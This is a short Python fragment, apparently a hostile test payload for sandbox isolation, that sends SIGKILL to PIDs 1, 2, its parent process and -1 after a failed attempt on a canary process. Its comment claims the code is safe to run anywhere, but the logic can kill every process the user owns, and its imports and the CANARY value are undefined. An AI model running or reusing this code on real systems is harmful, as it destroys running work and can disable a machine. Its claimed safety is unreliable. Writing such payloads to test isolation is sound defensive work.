"""Hostile: Sends SIGKILL to everything that it may: first process, groups, -1."""


def act(x):
    # Only if it can't hit anything outside: this must be safe to run anywhere.
    try:
        os.kill(CANARY, signal.SIGKILL)
    except OSError:
        if os.getuid() != 0:
            for pid in (1, 2, os.getppid()):
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
            os.kill(-1, signal.SIGKILL)
            time.sleep(5)
